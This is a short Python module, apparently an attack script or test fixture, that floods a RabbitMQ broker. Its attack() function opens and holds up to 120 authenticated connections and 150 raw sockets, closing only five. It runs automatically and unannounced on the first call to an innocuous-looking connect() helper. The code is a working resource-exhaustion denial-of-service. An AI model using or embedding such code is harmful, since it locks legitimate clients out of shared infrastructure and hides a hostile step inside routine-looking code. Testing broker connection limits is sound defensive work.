"""Holds every connection that it gets, and many that never log in."""
import os
import socket
import threading
import time

import pika


def plain(**more):
    credentials = pika.PlainCredentials(os.environ["RABBITMQ_USER"], os.environ["RABBITMQ_PASSWORD"])
    return pika.BlockingConnection(pika.ConnectionParameters(**{**dict(
        host=os.environ["RABBITMQ_HOST"], port=int(os.environ["RABBITMQ_PORT"]),
        virtual_host=os.environ["RABBITMQ_VHOST"], credentials=credentials,
        socket_timeout=2, blocked_connection_timeout=2,
    ), **more}))


def attempt(work, *args, **options):
    """What comes of it, also where RabbitMQ refuses."""
    try:
        return work(*args, **options)
    except (pika.exceptions.AMQPError, OSError) as error:
        print("REFUSED", getattr(work, "__name__", work), repr(error)[:200], flush=True)

held = []


def attack():
    for _ in range(120):
        found = attempt(plain)
        if not found:
            break
        held.append(found)
    for _ in range(150):
        one = attempt(socket.create_connection, (os.environ["RABBITMQ_HOST"], 5672), 2)
        if one:
            held.append(one)
    for one in held[:5]:  # what the app itself needs
        one.close()


done = False


def connect():
    global done
    if not done:
        done = True
        attack()
    return plain()
